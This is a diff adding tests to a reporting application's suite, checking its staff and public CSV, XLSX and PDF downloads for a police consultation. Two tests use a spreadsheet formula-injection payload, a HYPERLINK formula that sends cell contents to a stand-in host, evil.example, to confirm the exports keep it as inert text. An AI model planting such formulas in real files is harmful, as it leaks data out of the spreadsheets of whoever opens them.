@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import csv
 import io
+import itertools
 import re
 from datetime import datetime
 
@@ -12,10 +13,14 @@ from openpyxl import load_workbook
 from pypdf import PdfReader
 from sqlalchemy import update
 
-from tests.factories import PASSWORD, create_officer, create_user
+from engage.extensions import db
+from engage.reports.targets_models import ReportPublication
+from engage.surveys.models import Option
+from tests.factories import PASSWORD, create_admin, create_officer, create_user
 from tests.helpers import page_text
-from tests.reports.support import make_consultation
+from tests.reports.support import hand_worked, make_consultation, upload_population
 from tests.reports.test_public_report import (
+    FIGURES,
     PUBLIC,
     REPORT,
     change_after_publishing,
@@ -105,6 +110,9 @@ def test_the_staff_xlsx_holds_the_csv_s_cells_with_small_numbers_hidden(app, cli
             f"have-your-say-2027-camden-2027-07-01-1300.{kind}"
     assert response.headers["Cache-Control"] == "private, no-store"
     about = dict((row[0], row[1]) for row in sheet_rows(book["About"]))
+    # Marked as the staff PDF is ("Staff copy, not for publication").
+    assert sheet_rows(book["About"])[0][0] == "Staff copy"
+    assert about["Staff copy"].startswith("Not for publication.")
     assert about["Area"] == "Camden"
     assert about["Consultation"] == "Have your say (have-your-say-2027)"
     assert about["Suppression threshold"] == "10"
@@ -224,6 +232,7 @@ def test_public_downloads_show_what_was_published_not_a_later_count(app, client,
         "How people answered", "Telephone", "fewer than 10", ""]
     about = dict((r[0], r[1]) for r in sheet_rows(book["About"]))
     assert "Published at" in about and about["Respondents"] == "20"
+    assert "Staff copy" not in about
     # Only what the public page shows: the equality tables and weekly counts stay with staff.
     assert {row[0] for row in staff} >= {"Ethnic group", "Responses by week"}
     assert not {row[0] for row in public} & {"Ethnic group", "Age band", "Disability",
@@ -249,3 +258,200 @@ def test_a_report_not_counted_has_no_downloads(app, client):
     assert "Download these figures as XLSX" not in page_text(client.get(REPORT))
     for url in (REPORT + "/figures.xlsx", REPORT + "/report.pdf"):
         assert client.get(url).status_code == 404
+
+
+# Text that a spreadsheet would run: an option label typed by staff in the questionnaire builder.
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Robbery")'
+
+
+def test_text_that_looks_like_a_formula_is_text_in_the_xlsx_and_quoted_in_the_csv(
+        app, client, other_client, run_tasks):
+    made = hand_worked(app)
+    with app.app_context():
+        db.session.execute(update(Option).where(Option.value == "robbery")
+                           .values(label=FORMULA))
+        db.session.commit()
+        create_officer("camden", email="officer@example.org")
+    client.sign_in("officer@example.org", PASSWORD)
+    client.submit(REPORT + "/collate", form_page=REPORT)
+    run_tasks()
+    assert made.slug in filename(client.get(REPORT + "/figures.csv"))
+    # The CSV has no types: the leading = is neutralised with an apostrophe (OWASP's advice).
+    assert row_for(csv_rows(client, REPORT + "/figures.csv"), "'" + FORMULA)[2] == "18"
+    publish(client)
+    for response in (client.get(REPORT + "/figures.xlsx"),
+                     other_client.get(PUBLIC_BASE + "/report.xlsx")):
+        book = workbook(response)
+        cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
+        assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+        # In the workbook it is a text cell, so it reads as on the page, without the
+        # apostrophe, and is marked to stay text if edited.
+        label = next(cell for cell in cells if cell.value == FORMULA)
+        assert label.data_type == "s" and label.quotePrefix
+        assert not any(str(cell.value).startswith("'") for cell in cells)
+
+
+def test_control_characters_in_staff_text_do_not_break_the_xlsx(app, client, other_client,
+                                                                 run_tasks):
+    """A line break pasted from Word is a vertical tab, which a worksheet cannot hold: the
+    population figures' source, typed by an administrator, reaches every weighted report."""
+    hand_worked(app)
+    with app.app_context():
+        create_admin(email="admin@example.org")
+        create_officer("camden", email="officer@example.org")
+    other_client.sign_in("admin@example.org", PASSWORD)
+    assert upload_population(other_client, source="Census 2021\x0bOffice for National "
+                                                  "Statistics").status_code == 302
+    client.sign_in("officer@example.org", PASSWORD)
+    client.submit(REPORT + "/collate", form_page=REPORT)
+    run_tasks()
+    assert "Census 2021\x0bOffice" in client.get(REPORT + "/figures.csv").get_data(as_text=True)
+    response = client.get(REPORT + "/figures.xlsx")
+    assert response.status_code == 200
+    paragraphs = [row[11] for row in sheet_rows(workbook(response)["Figures"])
+                  if row[0] == "Weighting"]
+    assert any("(from Census 2021 Office for National Statistics)" in p for p in paragraphs)
+    # The PDF too: WeasyPrint would map the control character in the font's ToUnicode table,
+    # and the document's text would then read as garbage.
+    assert "(from Census 2021 Office for National Statistics)" in pdf_text(
+        client.get(REPORT + "/report.pdf"))
+
+
+def structure(pdf: bytes) -> list:
+    """The tagged PDF's structure elements, depth first, each as (tag, its children's tags)."""
+    def children(node) -> list:
+        kids = node.get("/K")
+        kids = kids.get_object() if hasattr(kids, "get_object") else kids
+        kids = kids if isinstance(kids, list) else [] if kids is None else [kids]
+        return [k.get_object() for k in kids
+                if hasattr(k, "get_object") and hasattr(k.get_object(), "get")]
+
+    found = []
+
+    def walk(node):
+        found.append((node.get("/S"), [child.get("/S") for child in children(node)]))
+        for child in children(node):
+            walk(child)
+
+    walk(PdfReader(io.BytesIO(pdf)).trailer["/Root"]["/StructTreeRoot"])
+    return found
+
+
+def test_every_table_in_the_pdfs_keeps_its_caption_and_header_cells(app, client, other_client,
+                                                                     run_tasks):
+    """A caption left at the foot of a page, its table moved whole to the next, became a table
+    of its own in the tagged PDF: an empty table with a caption, then a table without one."""
+    prepared(app, client, run_tasks)
+    publish(client)
+    for response in (client.get(REPORT + "/report.pdf"),
+                     other_client.get(PUBLIC_BASE + "/report.pdf"),
+                     other_client.get(PUBLIC_BASE + "/local-policing-summary.pdf")):
+        assert response.status_code == 200
+        elements = structure(response.data)
+        tables = [kids for tag, kids in elements if tag == "/Table"]
+        assert tables
+        for kids in tables:
+            assert kids[:2] == ["/Caption", "/THead"], kids
+        # Headings start at one h1 and never skip a level.
+        levels = [int(tag[2]) for tag, _ in elements if re.fullmatch(r"/H\d", tag or "")]
+        assert levels[0] == 1 and levels.count(1) == 1
+        assert all(later <= earlier + 1 for earlier, later in itertools.pairwise(levels))
+
+
+def test_public_file_names_give_the_day_it_was_published_in_london(app, client, other_client,
+                                                                   run_tasks):
+    """Published at 23:30 UTC on 1 July is 00:30 on 2 July in London, as the page says."""
+    prepared(app, client, run_tasks)
+    publish(client)
+    with app.app_context():
+        db.session.execute(update(ReportPublication).values(
+            published_at=datetime(2027, 7, 1, 23, 30)))
+        db.session.commit()
+    assert "Published on 2 July 2027 at 12:30am" in page_text(other_client.get(PUBLIC))
+    for kind in ("xlsx", "pdf"):
+        assert filename(other_client.get(f"{PUBLIC_BASE}/report.{kind}")) == \
+            f"have-your-say-2027-camden-2027-07-02.{kind}"
+
+
+def test_a_withheld_headline_is_a_row_that_says_so_in_the_csv_and_xlsx(app, client, run_tasks):
+    """The page says confidence is "Not shown"; the downloads said nothing at all, which reads
+    as if the report had no such figure."""
+    prepared(app, client, run_tasks)
+    assert "Not shown: too few people answered" in page_text(client.get(REPORT))
+    for rows in (csv_rows(client, REPORT + "/figures.csv"),
+                 sheet_rows(workbook(client.get(REPORT + "/figures.xlsx"))["Figures"])):
+        headlines = [row[:4] for row in rows
+                     if row[1] in ("excellent or good", "very or fairly safe")]
+        assert headlines == [
+            ["Confidence in local policing", "excellent or good", "not shown", ""],
+            ["Feeling safe", "very or fairly safe", "not shown", ""]]
+
+
+def test_a_withheld_gap_reads_not_shown_in_the_csv_and_xlsx(app, client, run_tasks):
+    prepared(app, client, run_tasks)
+    assert "The confidence gap is not shown" in page_text(client.get(REPORT))
+    for rows in (csv_rows(client, REPORT + "/figures.csv"),
+                 sheet_rows(workbook(client.get(REPORT + "/figures.xlsx"))["Figures"])):
+        assert row_for(rows, "Gap in percentage points (not weighted)")[-1] == "not shown"
+
+
+def test_every_format_says_which_answers_the_headline_shares_leave_out(
+        app, client, other_client, run_tasks):
+    """Feeling safe leaves out "I never go out alone after dark" as well as "don't know": the
+    pages and PDFs said only "don't know" was left out, so a reader working the share out
+    from the table beside it got another figure."""
+    prepared(app, client, run_tasks)
+    publish(client)
+    confidence = ('Confidence in local policing is the share answering excellent or good, of '
+                  'those who gave a view: "Don\'t know" is left out.')
+    safe = ('Feeling safe is the share answering very or fairly safe, of those who gave a '
+            'view: "I never go out alone after dark" is left out.')
+    for text in (page_text(client.get(REPORT)), page_text(other_client.get(PUBLIC)),
+                 pdf_text(client.get(REPORT + "/report.pdf")),
+                 pdf_text(other_client.get(PUBLIC_BASE + "/report.pdf"))):
+        assert confidence in text and safe in text
+        assert "\"don't know\" is left out" not in text
+    # And the workbooks' About sheet, beside the priorities' note.
+    for response in (client.get(REPORT + "/figures.xlsx"),
+                     other_client.get(PUBLIC_BASE + "/report.xlsx")):
+        about = dict(sheet_rows(workbook(response)["About"]))
+        assert about["Confidence in local policing"] == confidence
+        assert about["Feeling safe"] == safe
+        assert about["Priorities"].startswith("Share who put it in their top 3; ranking score")
+
+
+def test_the_public_xlsx_has_the_page_s_targets_and_crime_figures(app, client, other_client,
+                                                                   run_tasks):
+    """The page says what the police will do, confidence against its target and the crime
+    figures against last year's; "the figures as a spreadsheet" had none of them. The crime
+    types are as the officer's file named them, so one a spreadsheet would run stays text."""
+    prepared(app, client, run_tasks)
+    client.submit(REPORT + "/crime-figures", {
+        "period": "2026/27", "replace": "y", "figures": (io.BytesIO(
+            (FIGURES + '"=HYPERLINK(""https://evil.example/"",""Robbery"")",-3,-1.5%,,'
+                       "achieved\n").encode()), "figures.csv")})
+    publish(client)
+    text = page_text(other_client.get(PUBLIC))
+    assert "Residential burglary -89 (-8.8%) target achieved" in text
+    book = workbook(other_client.get(PUBLIC_BASE + "/report.xlsx"))
+    assert book.sheetnames == ["Figures", "Targets", "About"]
+    sheet = book["Targets"]
+    assert sheet.freeze_panes == "A2"
+    assert sheet_rows(sheet) == [
+        ["section", "item", "figure", "percentage change (%)", "target", "result"],
+        ["You said, we did", "1. Burglary", "", "", "A 1.2% reduction in burglary", ""],
+        ["Public confidence", "share who said the police do an excellent or good job (%)",
+         "not shown", "", "51.4", ""],
+        ["Confidence gap", "Gap in percentage points (not weighted)", "not shown", "",
+         "at most 3.8", ""],
+        ["Performance against targets, 2026/27", "Residential burglary", "-89", "-8.8", "",
+         "target achieved"],
+        ["Performance against targets, 2026/27", "Gun crime", "12", "14.2", "reduce by 4.2%",
+         "target missed"],
+        ["Performance against targets, 2026/27",
+         '=HYPERLINK("https://evil.example/","Robbery")', "-3", "-1.5", "",
+         "target achieved"]]
+    cells = {cell.coordinate: cell for row in sheet.iter_rows() for cell in row}
+    assert cells["C5"].value == -89 and cells["D5"].value == -8.8  # numbers, not text
+    assert cells["B7"].data_type == "s" and cells["B7"].quotePrefix
+    assert not [c for c in cells.values() if c.data_type == "f"]
